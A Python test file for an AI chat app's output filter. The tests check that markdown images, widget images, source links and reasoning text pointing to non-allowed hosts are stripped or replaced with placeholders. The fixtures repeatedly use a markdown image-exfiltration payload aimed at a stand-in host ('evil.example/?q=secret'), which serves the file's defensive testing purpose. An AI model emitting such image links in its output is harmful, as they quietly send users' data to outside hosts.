"""What of a turn reaches the screen: each frame that carries text, sources or images, kept to the allowed addresses."""

from collections.abc import AsyncIterator
from typing import Any

import pytest
from agents import Agent
from agents.items import TResponseStreamEvent
from chatkit.agents import AgentContext
from chatkit.types import (
    Annotation,
    AssistantMessageContentPartAnnotationAdded,
    ThoughtTask,
    URLSource,
    WorkflowTaskAdded,
)
from chatkit.widgets import DynamicWidgetRoot
from openai.types.responses import (
    ResponseOutputItemAddedEvent,
    ResponseOutputItemDoneEvent,
    ResponseReasoningItem,
    ResponseReasoningSummaryTextDoneEvent,
)

from schemas.chatkit import (
    AssistantMessageContent,
    AssistantMessageItem,
    NoticeEvent,
    ThreadItemDoneEvent,
    ThreadItemUpdatedEvent,
    ThreadStreamEvent,
    WidgetItem,
)
from tests.unit.agents.turns import AT, answer, streamed_text_of, text_of
from workers.agents.addresses import Addresses, Hosts
from workers.agents.card_tools import card_tools
from workers.agents.output import OutputFilter
from workers.agents.responder import AgentResponder
from workers.agents.team import Team
from workers.allow_lists import ANY_ACTION
from workers.testing.model import Call, Say, StepModel, words

EVIL = "![map](https://evil.example/?q=secret)"
STRICT = Addresses(Hosts.of("ok.example"), Hosts.of("ok.example"))


def shown(frame: ThreadStreamEvent, addresses: Addresses = STRICT) -> list[ThreadStreamEvent]:
    return list(OutputFilter(addresses)(frame))


@pytest.mark.parametrize("cut", [1, 3, 100])
async def test_deltas_and_the_finished_message_say_the_same(cut: int) -> None:
    text = f"Here! {EVIL} and ![ok](https://ok.example/i.png) is what [you] asked for!"
    pieces = tuple(text[start : start + cut] for start in range(0, len(text), cut))
    agent: Agent[AgentContext[Any]] = Agent(name="Solo", model=StepModel(Say(pieces)))
    responder = AgentResponder(Team((agent,)), addresses=Addresses(Hosts.of("ok.example")))
    events = await answer(responder, "hi")
    expected = "Here! (image: map) and ![ok](https://ok.example/i.png) is what [you] asked for!"
    assert text_of(events) == expected == streamed_text_of(events)


async def test_by_default_no_image_loads_and_links_stay() -> None:
    agent: Agent[AgentContext[Any]] = Agent(name="Solo", model=StepModel(words(f"{EVIL} [a](https://x.example)")))
    events = await answer(AgentResponder(Team((agent,))), "hi")
    assert text_of(events) == "(image: map) [a](https://x.example)"


async def test_what_a_tool_shows_is_kept_to_the_list_as_well() -> None:
    call = Call("show_card", {"title": "T", "lines": ["plain"]})
    agent: Agent[AgentContext[Any]] = Agent(
        name="Solo", model=StepModel(call, words("done")), tools=[*card_tools(ANY_ACTION)]
    )
    events = await answer(AgentResponder(Team((agent,)), addresses=STRICT), "hi")
    assert any(isinstance(event, ThreadItemDoneEvent) and isinstance(event.item, WidgetItem) for event in events)
    [notice] = shown(NoticeEvent(level="info", message=EVIL))
    assert isinstance(notice, NoticeEvent)
    assert notice.message == "(image: map)"


def test_widgets_lose_images_and_links_that_lead_elsewhere() -> None:
    children: list[dict[str, Any]] = [
        {"type": "Image", "src": "https://evil.example/?q=secret"},
        {"type": "Image", "src": "https://ok.example/i.png"},
        {"type": "Markdown", "value": EVIL},
        {"type": "Row", "children": [{"type": "Image", "src": "https://evil.example/x"}]},
    ]
    widget = DynamicWidgetRoot.model_validate({"type": "Card", "children": children})
    item = WidgetItem(id="w1", thread_id="t1", created_at=AT, widget=widget)
    [frame] = shown(ThreadItemDoneEvent(item=item))
    text = frame.model_dump_json(exclude_none=True)
    assert "evil.example" not in text
    assert "https://ok.example/i.png" in text
    assert "(image: map)" in text


def test_sources_and_thoughts_are_kept_to_the_list() -> None:
    bad = Annotation(source=URLSource(title="x", url="https://evil.example/x"))
    good = Annotation(source=URLSource(title="x", url="https://ok.example/x"))
    added = AssistantMessageContentPartAnnotationAdded(content_index=0, annotation_index=0, annotation=bad)
    assert shown(ThreadItemUpdatedEvent(item_id="m1", update=added)) == []
    content = AssistantMessageContent(text="hi", annotations=[bad, good])
    item = AssistantMessageItem(id="m1", thread_id="t1", created_at=AT, content=[content])
    [frame] = shown(ThreadItemDoneEvent(item=item))
    assert "evil.example" not in frame.model_dump_json()
    [thought] = shown(
        ThreadItemUpdatedEvent(
            item_id="w1", update=WorkflowTaskAdded(task_index=0, task=ThoughtTask(content=f"I see {EVIL}"))
        )
    )
    assert "(image: map)" in thought.model_dump_json()


class Musing(StepModel):
    """Thinks of an image from elsewhere, and then says nothing: the workflow ends with the run."""

    async def stream_response(self, *args: Any, **kwargs: Any) -> AsyncIterator[TResponseStreamEvent]:
        summary = [{"type": "summary_text", "text": EVIL}]
        thought = ResponseReasoningItem.model_validate({"id": "rs_1", "type": "reasoning", "summary": summary})
        at: dict[str, Any] = {"output_index": 0, "sequence_number": 0}
        async for event in super().stream_response(*args, **kwargs):
            if event.type == "response.created":
                yield event
                yield ResponseOutputItemAddedEvent(type="response.output_item.added", item=thought, **at)
                yield ResponseReasoningSummaryTextDoneEvent(
                    type="response.reasoning_summary_text.done", text=EVIL, item_id="rs_1", summary_index=0, **at
                )
                yield ResponseOutputItemDoneEvent(type="response.output_item.done", item=thought, **at)
            elif event.type == "response.completed":
                event.response.output[:] = [thought]
                yield event


async def test_a_thought_is_kept_to_the_list_until_its_workflow_has_ended() -> None:
    agent: Agent[AgentContext[Any]] = Agent(name="Solo", model=Musing(words("")))
    events = await answer(AgentResponder(Team((agent,)), addresses=STRICT), "hi")
    shown_frames = [event.model_dump_json() for event in events]
    assert any("(image: map)" in frame for frame in shown_frames)
    assert not [frame for frame in shown_frames if "evil.example" in frame]


def test_with_any_address_allowed_frames_pass_untouched() -> None:
    notice = NoticeEvent(level="info", message=EVIL)
    assert shown(notice, Addresses(Hosts.of("*"))) == [notice]
    assert notice.message == EVIL
